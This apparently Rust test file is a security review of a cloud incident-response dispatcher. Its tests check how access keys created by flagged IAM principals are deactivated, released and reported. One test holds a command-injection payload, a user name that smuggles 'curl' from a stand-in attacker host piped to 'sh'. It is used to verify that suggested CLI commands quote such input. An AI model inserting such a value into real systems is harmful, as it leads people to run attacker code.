//! Review of issue 13 part 2 (created access keys) at the dispatcher: planning, notification,
//! ledger targets and releases. A failing test is a finding; a passing one is evidence that the
//! property holds.

#![allow(clippy::unwrap_used)] // a test that cannot unwrap has failed

use crate::world;

use chrono::{DateTime, Duration, TimeZone, Utc};
use launchguard_responder::KeyStatus;
use launchguard_responder::memory::Entity;
use launchguard_responder_dispatcher::{DispatchReport, DispatcherError};
use launchguard_testkit::fixture;
use serde_json::{Value, json};
use world::{ACCOUNT, Iam, Lambda, Logs, Sns, config};

fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 22, 5, 21, 30).unwrap()
}

fn call() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 22, 5, 20, 5).unwrap()
}

const K1: &str = "AKIABACKDOOR1NEW0001";

fn key(id: &str, user: &str) -> Value {
    json!({"kind": "access_key", "access_key_id": id, "user_name": user, "created_at": call()})
}

/// The contract example, as a key burst of ci-deployer only, which created `created`.
fn burst(id: &str, created: Value) -> Value {
    let mut f: Value = serde_json::from_str(&fixture("contract/finding.json")).unwrap();
    f["rule"] = json!("iam-access-key-burst");
    f["finding_id"] = json!(id);
    let ps = f["principals"].as_array_mut().unwrap();
    ps.retain(|p| p["principal"]["type"] == "iam_user");
    let a = &mut ps[0]["activity"];
    a["created"] = created;
    a["launches"] = json!([]);
    a["instance_ids"] = json!([]);
    f
}

/// A principal entry for IAM user `name`, which used `key`.
fn user_principal(template: &Value, name: &str, key: &str) -> Value {
    let mut p = template.clone();
    p["principal"]["arn"] = json!(format!("arn:aws:iam::{ACCOUNT}:user/{name}"));
    p["principal"]["user_name"] = json!(name);
    p["activity"]["access_keys"] = json!([{"access_key_id": key, "kind": "long_term", "calls": 3, "launched": 0}]);
    p["activity"]["created"] = json!([]);
    p
}

fn account() -> Iam {
    world::iam().with_user(
        "backdoor-1",
        Entity {
            keys: vec![(K1.to_owned(), KeyStatus::Active)],
            key_created: [(K1.to_owned(), call() + Duration::seconds(1))].into_iter().collect(),
            ..Entity::new(format!("arn:aws:iam::{ACCOUNT}:user/backdoor-1"))
        },
    )
}

fn status(iam: &Iam, user: &str, key: &str) -> KeyStatus {
    iam.users.lock().unwrap()[user].keys.iter().find(|(k, _)| k == key).unwrap().1
}

async fn dispatch(payload: &Value, lambda: &Lambda<'_>, sns: &Sns, logs: &Logs) -> Result<DispatchReport, DispatcherError> {
    world::dispatch(payload, &config(&[]), lambda, sns, logs, now()).await
}

fn release(finding_id: &str) -> Value {
    let mut rel: Value = serde_json::from_str(&fixture("contract/release.by_finding.json")).unwrap();
    rel["finding_id"] = json!(finding_id);
    rel
}

/// SOUND (checked): F1 (ci-deployer's key burst) deactivates K1, which it created for backdoor-1;
/// F2 flags backdoor-1 for using K1 (found Inactive: not launchguard's change). Releasing F1 must
/// not reactivate K1 while F2 still holds it; releasing F2 afterwards does.
#[tokio::test(start_paused = true)]
async fn review_release_of_the_creator_finding_keeps_a_key_another_finding_holds() {
    let iam = account();
    let lambda = Lambda::new(&iam, &[], now());
    let (sns, logs) = (Sns::default(), Logs::default());
    let f1 = burst("lg-review-f1", json!([key(K1, "backdoor-1")]));
    dispatch(&f1, &lambda, &sns, &logs).await.unwrap();
    assert_eq!(status(&iam, "backdoor-1", K1), KeyStatus::Inactive);
    let mut f2 = burst("lg-review-f2", json!([]));
    let tmpl = f2["principals"][0].clone();
    f2["principals"] = json!([user_principal(&tmpl, "backdoor-1", K1)]);
    dispatch(&f2, &lambda, &sns, &logs).await.unwrap();
    dispatch(&release("lg-review-f1"), &lambda, &sns, &logs).await.unwrap();
    assert_eq!(status(&iam, "backdoor-1", K1), KeyStatus::Inactive, "released F1 undid what F2 relies on");
    dispatch(&release("lg-review-f2"), &lambda, &sns, &logs).await.unwrap();
    assert_eq!(status(&iam, "backdoor-1", K1), KeyStatus::Active, "both released: launchguard's change is undone");
}

/// MISLEADING NOTE: in one finding, ci-deployer created K1 for backdoor-1, and backdoor-1 (also
/// flagged) used K1. Both actions land on one ledger target, so one is kept, and
/// `one_action_per_target` writes "backdoor-1 is the same IAM entity as ci-deployer": false, and
/// a responder reading it would treat two principals as one.
#[tokio::test(start_paused = true)]
async fn review_the_creator_and_the_keys_user_are_not_called_the_same_entity() {
    let iam = account();
    let lambda = Lambda::new(&iam, &[], now());
    let (sns, logs) = (Sns::default(), Logs::default());
    let mut f = burst("lg-review-same", json!([key(K1, "backdoor-1")]));
    let tmpl = f["principals"][0].clone();
    f["principals"].as_array_mut().unwrap().push(user_principal(&tmpl, "backdoor-1", K1));
    dispatch(&f, &lambda, &sns, &logs).await.unwrap();
    assert_eq!(status(&iam, "backdoor-1", K1), KeyStatus::Inactive);
    let body = sns.messages.lock().unwrap()[0].1.clone();
    assert!(!body.contains("is the same IAM entity as"), "{body}");
}

/// UNQUOTED SHELL TEXT: `activity.created` is not validated by `Finding::parse` (only the Rust
/// detector checks IAM's form). A finding sealed by a compromised detector (or another
/// FINDING_SIGNERS detector that copies forged CloudTrail) with a created key for
/// `breakglass-x;curl${IFS}evil.example|sh` matches `breakglass-*`, so the plan writes the CRITICAL
/// "rotate it by hand now (`aws iam update-access-key --user-name …`)" line with that text
/// unquoted: a person who pastes it runs the attacker's command. SECURITY.md: "Nothing unquoted
/// reaches a shell".
#[tokio::test(start_paused = true)]
async fn review_a_created_user_name_never_reaches_a_suggested_command_unquoted() {
    let iam = account();
    let lambda = Lambda::new(&iam, &[], now());
    let (sns, logs) = (Sns::default(), Logs::default());
    let evil = "breakglass-x;curl${IFS}evil.example|sh";
    let f = burst("lg-review-shell", json!([key("AKIAEVILKEY000000001", evil)]));
    let r = dispatch(&f, &lambda, &sns, &logs).await;
    let body = sns.messages.lock().unwrap().first().map(|m| m.1.clone()).unwrap_or_default();
    assert!(
        r.is_err() || !body.contains(&format!("--user-name {evil}")),
        "a finding's created user name reached a suggested command unquoted:\n{body}"
    );
}

/// PROTECTED CREATOR, BY PATH: the creator's protection is checked only by the plan, on the ARN
/// the finding carries. A role protected by a path pattern (`role/automation/*`, e.g. a key
/// rotation role) whose record had no session issuer (`role_arn_derived`, no path) is not seen
/// as protected: its sessions' revocation is refused by the IAM handler (it resolves the real
/// ARN), but the keys it created for unprotected users are deactivated, and no handler re-checks
/// `created_by`. "A protected principal's creations are named, never acted on" does not hold.
#[test]
fn review_a_protected_creator_known_only_by_a_derived_arn_gets_nothing_done() {
    use launchguard_core::contract::Finding;
    use launchguard_core::guard::Guard;
    use launchguard_core::ids::ArnPatterns;
    use launchguard_responder_dispatcher::plan::{Playbook, plan};
    let mut f: Value = serde_json::from_str(&fixture("contract/finding.json")).unwrap();
    f["rule"] = json!("iam-access-key-burst");
    let ps = f["principals"].as_array_mut().unwrap();
    ps.retain(|p| p["principal"]["type"] == "assumed_role");
    let p = &mut ps[0];
    p["principal"]["role_arn"] = json!(format!("arn:aws:iam::{ACCOUNT}:role/KeyRotator"));
    p["principal"]["role_name"] = json!("KeyRotator");
    p["principal"]["role_arn_derived"] = json!(true);
    p["activity"]["created"] = json!([key(K1, "backdoor-1")]);
    let f = Finding::parse(f).unwrap();
    // the real role is arn:aws:iam::111122223333:role/automation/KeyRotator
    let guard = Guard::new(ACCOUNT, vec![], ArnPatterns::parse_list("arn:aws:iam::*:role/automation/*").unwrap(), &[]);
    let plans = plan(&f.principals, &Playbook::default(), &guard, now());
    let created: Vec<_> = plans.iter().flat_map(|p| &p.actions).filter(|a| a.name() == "deactivate_created_access_key").collect();
    assert!(created.is_empty(), "keys created by a (path-)protected role are deactivated: {created:?}");
}

/// NOTIFY-ONLY IS NOT: README says `LG_USER_ACTIONS=none` / `LG_ROLE_ACTIONS=none` is "notify
/// only", and `LG_CREATED_KEYS` acts for "a contained principal". With both set to none (and
/// `LG_CREATED_KEYS` left at its default), nobody is contained, yet the keys the principal created
/// are deactivated, and the plan's "review by hand" line for the user disappears.
#[test]
fn review_notify_only_playbooks_deactivate_no_created_key() {
    use launchguard_core::contract::Finding;
    use launchguard_core::guard::Guard;
    use launchguard_core::ids::ArnPatterns;
    use launchguard_responder_dispatcher::plan::{Playbook, plan};
    let f = Finding::parse(burst("lg-review-notify", json!([key(K1, "backdoor-1")]))).unwrap();
    let env = |k: &str| matches!(k, "LG_USER_ACTIONS" | "LG_ROLE_ACTIONS").then(|| "none".to_owned());
    let pb = Playbook::from_env(&env).unwrap();
    let guard = Guard::new(ACCOUNT, vec![], ArnPatterns::default(), &[]);
    let plans = plan(&f.principals, &pb, &guard, now());
    let actions: Vec<&str> = plans.iter().flat_map(|p| &p.actions).map(|a| a.name()).collect();
    assert!(actions.is_empty(), "notify-only playbook still acts: {actions:?}; human: {:?}", plans[0].human);
}
